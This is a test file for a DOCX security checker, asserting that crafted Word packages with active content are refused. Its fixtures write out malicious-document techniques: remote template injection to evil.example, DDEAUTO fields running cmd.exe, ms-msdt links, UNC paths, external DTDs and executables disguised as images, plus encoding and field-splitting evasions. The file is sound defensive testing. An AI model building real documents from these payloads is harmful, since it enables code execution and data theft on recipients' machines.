import { describe, expect, test } from 'vitest'
import {
  contentTypes,
  docxOf,
  field,
  mainPart,
  packageRelations,
  relations,
  relationship,
  relationshipsOf,
  word,
} from '../../../../tests/support/files/docx.ts'
import type { ZipPart } from '../../../../tests/support/files/zip.ts'
import { checkDocx } from './docx.ts'

async function problemOf(bytes: Buffer) {
  const checked = await checkDocx(bytes)
  return 'problem' in checked ? checked : checked.mediaType
}

const settings = 'word/_rels/settings.xml.rels'
const ofDocument = 'word/_rels/document.xml.rels'
const evil = 'https://evil.example/a.dotm'
const template = relationship('attachedTemplate', evil)
const ofPackage = 'http://schemas.openxmlformats.org/package/2006/relationships'
const raw = (content: string | Buffer, name = settings): ZipPart => ({ name, content })
const rels = (inside: string, head = '') =>
  raw(`${head}<Relationships xmlns="${ofPackage}">${inside}</Relationships>`)
const utf16 = (text: string, ...mark: number[]) =>
  Buffer.concat([Buffer.from(mark), Buffer.from(text, 'utf16le')])
const vml = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
const drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
const compatible = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
const part = (name: string, content: string | Buffer = 'x'): ZipPart => ({ name, content })

const templates: readonly (readonly [string, ZipPart])[] = [
  ['as everybody writes it', relationshipsOf(settings, template)],
  ['in single quotes', rels(template.replaceAll('"', "'"))],
  ['with space around its signs', rels(template.replaceAll('="', ' =\n "'))],
  [
    'in entities',
    rels(template.replace('https', '&#x68;&#116;tps').replace('attachedTemplate', '&#97;ttachedTemplate')),
  ],
  [
    'in elements with a prefix',
    raw(`<p:Relationships xmlns:p="${ofPackage}">${template.replace('<R', '<p:R')}</p:Relationships>`),
  ],
  [
    'in UTF-16',
    raw(
      utf16(
        `<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="${ofPackage}">${template}</Relationships>`,
        0xff,
        0xfe,
      ),
    ),
  ],
  [
    'in UTF-16 without its mark',
    raw(utf16(`<Relationships xmlns="${ofPackage}">${template}</Relationships>`)),
  ],
  [
    'in UTF-16, the other way round',
    raw(utf16(`<Relationships xmlns="${ofPackage}">${template}</Relationships>`, 0xff, 0xfe).swap16()),
  ],
  [
    'on the sender’s own machine',
    relationshipsOf(settings, relationship('attachedTemplate', 'file:///C:/letter.dotx')),
  ],
  ['of a neighbour', relationshipsOf(settings, relationship('attachedTemplate', '\\\\evil\\a.dotm'))],
  [
    'of a neighbour, the other way round',
    relationshipsOf(settings, relationship('attachedTemplate', '//evil/a.dotm')),
  ],
  ['that is said to be inside', relationshipsOf(settings, relationship('attachedTemplate', evil, ''))],
  ['inside', relationshipsOf(settings, relationship('attachedTemplate', 'a.dotm', ''))],
  [
    'by the stricter standard',
    rels(template.replace(relations, 'http://purl.oclc.org/ooxml/officeDocument/relationships')),
  ],
  ['by any part', relationshipsOf('customXml/_rels/item1.xml.rels', template)],
  [
    'by the package',
    relationshipsOf('_rels/.rels', relationship('officeDocument', 'word/document.xml', ''), template),
  ],
  ['in capitals', rels(template.replace('External', 'external'))],
]

test.each(templates)('a document with a template from elsewhere, %s, is refused', async (_, settingsPart) => {
  expect(await problemOf(docxOf(settingsPart))).toEqual({ problem: 'active_content' })
})

describe('a document is refused with', () => {
  test.each<[string, readonly ZipPart[]]>([
    [
      'a picture from the web',
      [relationshipsOf(ofDocument, relationship('image', 'http://evil.example/1.png'))],
    ],
    ['a linked picture', [mainPart(`<w:p><w:drawing><a:blip ${drawing} r:link="r1"/></w:drawing></w:p>`)]],
    [
      'a linked picture by another prefix',
      [mainPart(`<a:blip ${drawing} xmlns:q="${relations}" q:link="r1"/>`)],
    ],
    ['an old picture from the web', [mainPart(`<v:imagedata ${vml} src="http://evil.example/1.png"/>`)]],
    ['an old picture from elsewhere', [mainPart(`<v:imagedata ${vml} o:href="http://evil.example/1.png"/>`)]],
    ['an old fill from elsewhere', [mainPart(`<v:fill ${vml} o:althref="\\\\evil\\1.png"/>`)]],
    ['a shape that leads to a file', [mainPart(`<v:shape ${vml} href="file:///c:/run.exe"/>`)]],
    ['an action on a picture', [mainPart(`<a:hlinkClick ${drawing} action="ppaction://program"/>`)]],
    ['a film from the web', [mainPart('<wp:webVideoPr xmlns:wp="urn:x" embeddedHtml="x"/>')]],
    ['a link to a file', [relationshipsOf(ofDocument, relationship('hyperlink', 'file:///c:/run.exe'))]],
    ['a link to a neighbour', [relationshipsOf(ofDocument, relationship('hyperlink', '\\\\evil\\run.exe'))]],
    ['a link that runs', [relationshipsOf(ofDocument, relationship('hyperlink', 'ms-msdt:/id'))]],
    [
      'an object from elsewhere',
      [relationshipsOf(ofDocument, relationship('oleObject', 'http://evil.example/'))],
    ],
    ['an object inside', [mainPart('<w:object/>')]],
    ['an object inside by its relation', [relationshipsOf(ofDocument, relationship('package', 'a.xml', ''))]],
    ['an old object', [mainPart(`<o:OLEObject ${vml} Type="Link"/>`)]],
    ['a piece of another kind', [mainPart('<w:altChunk r:id="r1"/>')]],
    [
      'a piece of another kind by its relation',
      [relationshipsOf(ofDocument, relationship('aFChunk', 'a.xml', ''))],
    ],
    ['a document from elsewhere', [mainPart('<w:subDoc r:id="r1"/>')]],
    [
      'frames',
      [part('word/webSettings.xml', `<w:webSettings xmlns:w="${word}"><w:frameset/></w:webSettings>`)],
    ],
    [
      'a template in its settings',
      [part('word/settings.xml', `<x:settings xmlns:x="${word}"><x:attachedTemplate/></x:settings>`)],
    ],
    [
      'letters to many',
      [part('word/settings.xml', `<w:settings xmlns:w="${word}"><w:mailMerge/></w:settings>`)],
    ],
    ['a control', [mainPart('<w:control/>')]],
    ['a macro of a form field', [mainPart('<w:ffData><w:entryMacro w:val="x"/></w:ffData>')]],
    ['macros', [part('word/vbaProject.bin')]],
    ['macros in capitals', [part('word/VBAPROJECT.BIN')]],
    [
      'macros by its content types',
      [contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    ],
    [
      'macros by a content type in entities',
      [contentTypes('<Default Extension="b" ContentType="application/vnd.ms-office.vba&#80;roject"/>')],
    ],
    ['macros by a relation', [relationshipsOf(ofDocument, relationship('vbaProject', 'a.xml', ''))]],
    [
      'an add-in',
      [
        relationshipsOf(
          '_rels/.rels',
          relationship('officeDocument', 'word/document.xml', ''),
          '<Relationship Id="r2" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="customUI.xml"/>',
        ),
      ],
    ],
    ['a relation that nobody knows', [relationshipsOf(ofDocument, relationship('surprise', 'a.xml', ''))]],
    ...['word/footer1.odttf', 'word/printerSettings1.bin'].map((name): [string, ZipPart[]] => [
      `a footer that is called ${name}`,
      [
        relationshipsOf(ofDocument, relationship('footer', `/${name}`, '')),
        part(name, `<w:ftr xmlns:w="${word}">${field(' DDEAUTO cmd ')}</w:ftr>`),
      ],
    ]),
    ...['a.odttf?.xml', 'a.odttf#.xml', 'a%2eodttf'].map((target): [string, ZipPart[]] => [
      `a footer that is led to by ${target}`,
      [relationshipsOf(ofDocument, relationship('footer', target, ''))],
    ]),
    [
      'a picture from the web that is said to be inside',
      [relationshipsOf(ofDocument, relationship('image', ' http://evil.example/1.png', 'Internal'))],
    ],
    [
      'a solution from the web',
      [
        part(
          'word/settings.xml',
          `<w:settings xmlns:w="${word}"><s:schema xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/main" s:manifestLocation="http://evil.example/"/></w:settings>`,
        ),
      ],
    ],
    ['controls', [part('word/activeX/activeX1.bin')]],
    ['a program inside', [part('word/embeddings/oleObject1.bin', 'MZ')]],
    ['a program called a picture', [part('word/media/image1.png', 'MZ')]],
    ['an archive called a picture', [part('word/media/image1.png', docxOf())]],
    ['a web page inside', [part('word/a.html', '<html/>')]],
    ['a drawing that can hold scripts', [part('word/media/image1.svg', '<svg/>')]],
    ['a style sheet of its own', [part('word/a.xml', '<?xml-stylesheet href="http://evil.example/"?><a/>')]],
    ['definitions of its own', [part('word/a.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>')]],
    [
      'definitions from elsewhere',
      [part('word/a.xml', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>')],
    ],
  ])('%s', async (_, parts) => {
    expect(await problemOf(docxOf(...parts))).toEqual({ problem: 'active_content' })
  })

  test.each<[string, string]>([
    ['another program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ['another program, asked for', field('DDE excel a b')],
    ['another program in small letters', field(' ddeauto cmd ')],
    ['another program in pieces', field(' DD', 'EAU', 'TO cmd "/k calc"')],
    ['another program in entities', field(' &#68;DEAUTO cmd ')],
    ['another program in a simple field', '<w:fldSimple w:instr=" DDEAUTO cmd "/>'],
    ['another program by another prefix', `<x:fldSimple xmlns:x="${word}" x:instr="DDE cmd"/>`],
    ['another program behind a harmless word', field(' PAGE ', 'DDEAUTO cmd ')],
    [
      'another program in a deleted instruction',
      field(' PAGE ').replaceAll('instrText', 'delInstrText').replace(' PAGE ', 'DDE cmd'),
    ],
    [
      'a word made by another field',
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(' PAGE ')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ],
    ['an instruction in characters', field(' QUOTE 68 68 69 ')],
    [
      'an instruction of a branch',
      `<mc:AlternateContent ${compatible}><mc:Choice Requires="x"><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText></mc:Choice><mc:Fallback><w:instrText>DDE cmd</w:instrText></mc:Fallback></mc:AlternateContent>`,
    ],
    [
      'an instruction in words of the text',
      field('')
        .replace('<w:instrText xml:space="preserve">', '<w:t>')
        .replace('</w:instrText>', ' DDEAUTO cmd</w:t>'),
    ],
    [
      'an instruction that is another one without its deleted words',
      field(' ', 'DD', 'EAUTO cmd ').replace(
        '<w:instrText xml:space="preserve"> </w:instrText>',
        '<w:delInstrText> PAGE "</w:delInstrText>',
      ),
    ],
    [
      'an instruction that does not end',
      field(' DD', 'EAUTO cmd ').replace(/<w:r><w:fldChar w:fldCharType="separate".*$/, '</w:p>'),
    ],
    [
      'a link made by a simple field',
      field(' HYPERLINK ').replace(
        '<w:r><w:fldChar w:fldCharType="separate"/>',
        '<w:fldSimple w:instr=" TITLE "/><w:r><w:fldChar w:fldCharType="separate"/>',
      ),
    ],
    ['an instruction without a field', '<w:instrText>DDEAUTO cmd</w:instrText>'],
    ['a text from elsewhere', field(' INCLUDETEXT "http://evil.example/a.docx" ')],
    ['a picture from elsewhere', field(' INCLUDEPICTURE "http://evil.example/a.png" \\d ')],
    ['an old picture from elsewhere', field(' IMPORT a ')],
    ['a link that updates itself', field(' LINK Excel.Sheet "\\\\evil\\a" ')],
    ['an object', field(' EMBED Word.Document ')],
    ['a macro behind a button', field(' MACROBUTTON run Click here ')],
    ['a database', field(' DATABASE \\d "c:\\a" ')],
    ['a question', field(' ASK a "b" ')],
    ['a link to a neighbour', field(' HYPERLINK "\\\\\\\\evil\\\\a" ')],
    ['a link to a file', field(' HYPERLINK file:///c:/run.exe ')],
    ['a link behind a place', field(' HYPERLINK \\l "here" "file:///c:/a" ')],
    [
      'a link made by another field',
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK </w:instrText></w:r>${field(' TITLE ')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ],
  ])('a field for %s', async (_, body) => {
    expect(await problemOf(docxOf(mainPart(body)))).toEqual({ problem: 'active_content' })
    const footer = `<w:ftr xmlns:w="${word}">${body}</w:ftr>`
    expect(await problemOf(docxOf(part('word/footer1.xml', footer)))).toEqual({ problem: 'active_content' })
  })

  test.each<[string, readonly ZipPart[], string]>([
    ['a part that is no XML', [part('word/a.xml', '<a>')], 'damaged'],
    ['an entity that nobody knows', [part('word/a.xml', '<a>&b;</a>')], 'damaged'],
    ['a prefix that nobody knows', [part('word/a.xml', '<b:a/>')], 'damaged'],
    [
      'letters of another alphabet than it says',
      [part('word/a.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>')],
      'damaged',
    ],
    [
      'broken letters',
      [part('word/a.xml', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]))],
      'damaged',
    ],
    ['elements without end', [part('word/a.xml', '<a>'.repeat(5_000))], 'damaged'],
    [
      'a relation that leads out',
      [relationshipsOf(ofDocument, relationship('styles', '../../a.xml', ''))],
      'damaged',
    ],
    ['relations of another kind', [raw('<Relationships/>')], 'damaged'],
    [
      'no relations',
      [packageRelations, { ...packageRelations, name: 'word/b.xml' }]
        .slice(1)
        .concat(relationshipsOf('_rels/.rels')),
      'not_this_kind',
    ],
    ['17 MB of XML', [part('word/a.xml', `<a>${' '.repeat(17 * 1024 * 1024)}</a>`)], 'unpacks_too_large'],
    ['one part under two spellings', [part('word/A.xml', '<a/>'), part('word/a.xml', '<a/>')], 'damaged'],
  ])('%s', async (_, parts, problem) => {
    expect(await problemOf(docxOf(...parts))).toEqual({ problem })
  })
})
